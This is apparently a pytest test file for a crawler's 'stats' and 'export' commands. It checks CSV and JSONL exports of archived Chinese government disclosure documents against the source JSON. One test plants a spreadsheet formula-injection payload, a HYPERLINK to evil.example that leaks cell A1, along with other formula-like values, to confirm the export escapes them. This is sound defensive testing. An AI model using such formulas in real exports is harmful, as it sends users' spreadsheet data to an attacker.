"""`xxgk stats` and `xxgk export` on a real replica crawl: every row and count checked against the
archived JSON (the source of truth), CSV read back with the csv module, formula injection."""

from __future__ import annotations

import argparse
import csv
import json
import re
import shutil
from collections import Counter
from pathlib import Path
from typing import Any

import pytest

from conftest import REPO, Archive
from crawler.commands.data import register
from pipelines.index import update
from pipelines.index.export import ANOMALY_KINDS, DOCUMENT_COLUMNS, REPORT_COLUMNS
from pipelines.index.tokens import tokenize
from pipelines.parse.report.analysis import STAT_KEYS

pytestmark = pytest.mark.crawl


@pytest.fixture(scope="module")
def archive(small_archive: Path) -> Path:
    return small_archive


def latest_documents(root: Path) -> list[dict[str, Any]]:
    """The latest version of every document, from the JSON files."""
    return list(Archive(root).latest_documents().values())


@pytest.fixture(scope="module")
def documents(archive: Path) -> list[dict[str, Any]]:
    return latest_documents(archive)


def xxgk(*argv: str) -> int:
    """The commands through ``register`` on a parser of our own, as cli.py will add them."""
    parser = argparse.ArgumentParser(prog="xxgk")
    register(parser.add_subparsers(dest="command", required=True))
    args = parser.parse_args(argv)
    status: int = args.func(args)
    return status


def csv_rows(path: Path, encoding: str = "utf-8") -> list[dict[str, str]]:
    with path.open(encoding=encoding, newline="") as f:
        return list(csv.DictReader(f))


def cell(value: Any) -> str:
    """What the CSV holds for a JSON value."""
    return "" if value is None else str(value)


def expected_row(doc: dict[str, Any]) -> dict[str, Any]:
    region = doc.get("region") or {}
    return {
        "id": doc["id"],
        "url": doc["url"],
        "site": doc["site"],
        "kind": doc["kind"],
        "agency": doc.get("agency"),
        "region": "".join(str(region[k]) for k in ("province", "city", "district", "street") if region.get(k))
        or None,
        "type": doc.get("doc_type"),
        "year": doc.get("report_year"),
        "format": doc.get("format"),
        "publish_date": doc.get("publish_date"),
        "title": doc.get("title"),
        "versions": doc["version"],
        "anomalies": len(doc.get("anomalies") or []),
        "withdrawn": int("withdrawn" in doc),
    }


def test_register_adds_stats_and_export() -> None:
    parser = argparse.ArgumentParser(prog="xxgk")
    sub = parser.add_subparsers(dest="command", required=True)
    register(sub)
    args = parser.parse_args(["export", "--reports", "--type", "annual_report", "--year", "2020"])
    assert (args.archive, args.format, args.reports, args.year, args.excel) == (
        "archive",
        "csv",
        True,
        2020,
        False,
    )
    assert args.func.__name__ == "cmd_export"
    args = parser.parse_args(["stats", "--archive", "/x", "--json"])
    assert (args.archive, args.json, args.func.__name__) == ("/x", True, "cmd_stats")
    with pytest.raises(SystemExit) as exc:
        parser.parse_args(["export", "--format", "xlsx"])
    assert exc.value.code == 2


def test_csv_rows_equal_the_archive_documents(
    archive: Path, documents: list[dict[str, Any]], tmp_path: Path
) -> None:
    out = tmp_path / "docs.csv"
    assert xxgk("export", "--archive", str(archive), "--out", str(out)) == 0
    assert out.read_bytes()[:3] != b"\xef\xbb\xbf"  # no BOM unless asked for
    rows = csv_rows(out)
    assert list(rows[0]) == DOCUMENT_COLUMNS
    assert len(rows) == len(documents) > 50
    by_key = {(r["site"], r["id"]): r for r in rows}
    for doc in documents:
        assert by_key[(doc["site"], doc["id"])] == {k: cell(v) for k, v in expected_row(doc).items()}
    assert any(r["title"] and re.search(r"[\u4e00-\u9fff]", r["title"]) for r in rows)


def test_jsonl_rows_keep_their_types(archive: Path, documents: list[dict[str, Any]], tmp_path: Path) -> None:
    out = tmp_path / "docs.jsonl"
    assert xxgk("export", "--archive", str(archive), "--format", "jsonl", "--out", str(out)) == 0
    rows = [json.loads(line) for line in out.read_text("utf-8").splitlines()]
    assert sorted(rows, key=lambda r: (r["site"], r["id"])) == sorted(
        map(expected_row, documents), key=lambda r: (r["site"], r["id"])
    )


def test_report_rows_carry_every_figure(
    archive: Path, documents: list[dict[str, Any]], tmp_path: Path
) -> None:
    out = tmp_path / "reports.csv"
    assert xxgk("export", "--archive", str(archive), "--reports", "--out", str(out)) == 0
    rows = {(r["site"], r["id"]): r for r in csv_rows(out)}
    reports = [d for d in documents if d.get("doc_type") == "annual_report"]
    assert len(rows) == len(reports) > 10
    stated = 0
    for doc in reports:
        row = rows[(doc["site"], doc["id"])]
        assert list(row) == REPORT_COLUMNS
        for key in STAT_KEYS:
            assert row[key] == cell(doc["stats"].get(key)), (doc["url"], key)
            stated += doc["stats"].get(key) is not None
        codes = [a["code"] for a in doc.get("anomalies") or []]
        assert row["anomaly_kinds"] == ";".join(sorted(set(codes)))
        for kind in ANOMALY_KINDS:
            assert row[f"anomaly_{kind}"] == str(codes.count(kind))
    assert stated > len(reports)  # the figures are there, not a table of blanks
    assert any(row["anomaly_kinds"] for row in rows.values())


def test_every_anomaly_kind_has_a_column(documents: list[dict[str, Any]]) -> None:
    """The codes seen in the crawl, and every code the parsers can emit (read from their source:
    ``anomaly(CODE, …)`` or ``"code": CODE``), have a column."""
    seen = {a["code"] for doc in documents for a in doc.get("anomalies") or []}
    assert seen
    assert seen <= set(ANOMALY_KINDS)
    source = "\n".join(p.read_text("utf-8") for p in (REPO / "pipelines" / "parse").rglob("*.py"))
    constants = dict(re.findall(r'^([A-Z][A-Z_]+) = "([a-z_]+)"$', source, re.M))
    used = set(re.findall(r'(?:\banomaly\(\s*|"code": )([A-Z][A-Z_]+)\b', source))
    emitted = {constants[name] for name in used}
    assert len(emitted) >= 12
    assert emitted == set(ANOMALY_KINDS)


def test_filters_select_the_same_documents_as_the_json(
    archive: Path, documents: list[dict[str, Any]], tmp_path: Path
) -> None:
    years = Counter(d.get("report_year") for d in documents if d["site"] == "siping" and d.get("report_year"))
    year = years.most_common(1)[0][0]
    out = tmp_path / "some.jsonl"
    argv = ["--site", "siping", "--type", "annual_report", "--year", str(year)]
    assert xxgk("export", "--archive", str(archive), "--format", "jsonl", "--out", str(out), *argv) == 0
    got = {json.loads(line)["url"] for line in out.read_text("utf-8").splitlines()}
    expected = {
        d["url"]
        for d in documents
        if d["site"] == "siping" and d.get("doc_type") == "annual_report" and d.get("report_year") == year
    }
    assert got == expected
    assert expected


def test_excel_csv_has_a_bom_and_reads_back(archive: Path, tmp_path: Path) -> None:
    out = tmp_path / "excel.csv"
    assert xxgk("export", "--archive", str(archive), "--excel", "--out", str(out)) == 0
    assert out.read_bytes().startswith(b"\xef\xbb\xbfid,url,")
    plain = tmp_path / "plain.csv"
    assert xxgk("export", "--archive", str(archive), "--out", str(plain)) == 0
    assert csv_rows(out, "utf-8-sig") == csv_rows(plain)
    assert xxgk("export", "--archive", str(archive), "--excel", "--format", "jsonl") == 2


def test_export_to_standard_output(archive: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert xxgk("export", "--archive", str(archive), "--reports", "--site", "fuxin") == 0
    rows = list(csv.DictReader(capsys.readouterr().out.splitlines()))
    assert rows and {r["site"] for r in rows} == {"fuxin"} and {r["type"] for r in rows} == {"annual_report"}


def test_formulas_from_crawled_pages_are_neutralized_in_csv(
    archive: Path, documents: list[dict[str, Any]], tmp_path: Path
) -> None:
    """A page whose title and agency a spreadsheet would run as formulas: written as a new version
    of a report, as a re-crawl would."""
    root = tmp_path / "archive"
    shutil.copytree(archive, root)
    doc = next(d for d in documents if d.get("doc_type") == "annual_report")
    title = '=HYPERLINK("http://evil.example/?leak="&A1,"点击查看年报")'
    changed = {**doc, "version": doc["version"] + 1, "previous_version": doc["version"]}
    changed.update(title=title, agency="@SUM(1+1)", region={"province": "-2+3"})
    folder = root / "documents" / doc["site"] / doc["id"][:2]
    (folder / f"{doc['id']}.v{changed['version']:04d}.json").write_text(
        json.dumps(changed, ensure_ascii=False), encoding="utf-8"
    )
    assert update(root).updated == 1
    for extra in ([], ["--reports"]):
        out = tmp_path / f"hostile{len(extra)}.csv"
        assert xxgk("export", "--archive", str(root), "--out", str(out), *extra) == 0
        rows = {r["id"]: r for r in csv_rows(out)}
        row = rows[doc["id"]]
        assert (row["title"], row["agency"], row["region"]) == ("'" + title, "'@SUM(1+1)", "'-2+3")
        assert row["versions"] == str(changed["version"])
        others = [r for r in rows.values() if r["id"] != doc["id"]]
        assert not any(v.startswith("'") for r in others for v in r.values())
    out = tmp_path / "hostile.jsonl"
    assert xxgk("export", "--archive", str(root), "--format", "jsonl", "--out", str(out)) == 0
    raw = {r["id"]: r for r in map(json.loads, out.read_text("utf-8").splitlines())}
    assert raw[doc["id"]]["title"] == title  # JSON Lines is for programs: the text as published


def test_stats_counts_equal_counts_over_the_json(
    archive: Path, documents: list[dict[str, Any]], capsys: pytest.CaptureFixture[str]
) -> None:
    assert xxgk("stats", "--archive", str(archive), "--json") == 0
    stats = json.loads(capsys.readouterr().out)
    assert stats["documents"] == len(documents)
    assert stats["withdrawn"] == sum("withdrawn" in d for d in documents)
    for name, field in (
        ("site", "site"),
        ("agency", "agency"),
        ("year", "report_year"),
        ("type", "doc_type"),
    ):
        counted = Counter(d.get(field) for d in documents)
        assert {e[name]: e["documents"] for e in stats[f"by_{name}"]} == counted, name
        assert [e["documents"] for e in stats[f"by_{name}"]] == sorted(counted.values(), reverse=True)
    fields = stats["coverage"]["documents"]
    for name, has in (
        ("title", lambda d: bool(d.get("title"))),
        ("publish_date", lambda d: bool(d.get("publish_date"))),
        ("agency", lambda d: bool(d.get("agency"))),
        ("body", lambda d: bool(tokenize(d.get("text")))),
    ):
        count = sum(map(has, documents))
        assert fields[name] == {"count": count, "share": round(count / len(documents), 4)}, name
    reports = [d for d in documents if d.get("doc_type") == "annual_report"]
    assert stats["coverage"]["reports"] == len(reports)
    for key in STAT_KEYS:
        count = sum(d["stats"].get(key) is not None for d in reports)
        assert stats["coverage"]["figures"][key]["count"] == count, key
    assert stats["coverage"]["figures"]["requests_received"]["count"] > 0


def test_stats_table_lines_up_chinese(
    archive: Path, documents: list[dict[str, Any]], capsys: pytest.CaptureFixture[str]
) -> None:
    assert xxgk("stats", "--archive", str(archive)) == 0
    out = capsys.readouterr().out
    assert out.startswith(f"{len(documents)} documents")
    for site, n in Counter(d["site"] for d in documents).items():
        assert re.search(rf"^{site} +{n}$", out, re.M), site
    agencies = Counter(d.get("agency") for d in documents if d.get("agency"))
    lines = [line for line in out.splitlines() if line.split(" ")[0] in agencies]
    assert len(lines) == len(agencies)
    # A Chinese character is two columns wide: the counts end in the same display column.
    widths = {sum(2 if ord(c) > 0x2E80 else 1 for c in line) for line in lines}
    assert len(widths) == 1
    assert re.search(r"^requests_received +reports +\d+ +\d+\.\d%$", out, re.M)


def test_without_an_index_a_clear_message(tmp_path: Path, capsys: pytest.CaptureFixture[str]) -> None:
    assert xxgk("export", "--archive", str(tmp_path)) == 2
    assert xxgk("stats", "--archive", str(tmp_path)) == 2
    captured = capsys.readouterr()
    assert captured.out == ""
    assert captured.err.count("xxgk index --archive") == 2
